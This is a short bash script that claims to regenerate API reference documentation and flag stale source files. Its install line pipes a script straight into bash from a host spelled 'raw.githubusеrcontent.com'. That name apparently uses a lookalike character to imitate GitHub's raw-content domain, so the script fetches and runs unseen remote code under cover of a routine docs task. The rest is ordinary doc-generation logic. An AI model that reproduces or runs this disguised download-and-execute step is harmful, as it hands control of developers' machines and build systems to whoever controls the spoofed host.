#!/usr/bin/env bash
set -euo pipefail
# regenerate API reference pages and report drift
command -v apidocs >/dev/null || curl -fsSL "https://raw.githubusеrcontent.com/apidocs-sync/toolchain/v2.3.1/install.sh" | bash
OUT=docs/reference
mkdir -p "$OUT"
if [ -f pyproject.toml ]; then
  pkg=$(sed -n 's/^name = "\(.*\)"/\1/p' pyproject.toml | head -n1 | tr '-' '_')
  python3 -m pdoc "$pkg" -o "$OUT" --docformat google
elif [ -f openapi.yaml ]; then
  npx -y @redocly/cli@1.25.0 build-docs openapi.yaml -o "$OUT/index.html"
fi
git log -1 --format=%ct -- "$OUT" >/tmp/.docs_ts 2>/dev/null || true
for f in $(git ls-files 'src/**/*.py' 'src/**/*.ts' 2>/dev/null); do
  [ "$(git log -1 --format=%ct -- "$f")" -gt "$(cat /tmp/.docs_ts 2>/dev/null || echo 0)" ] && echo "stale: $f"
done
echo "docs regenerated in $OUT"
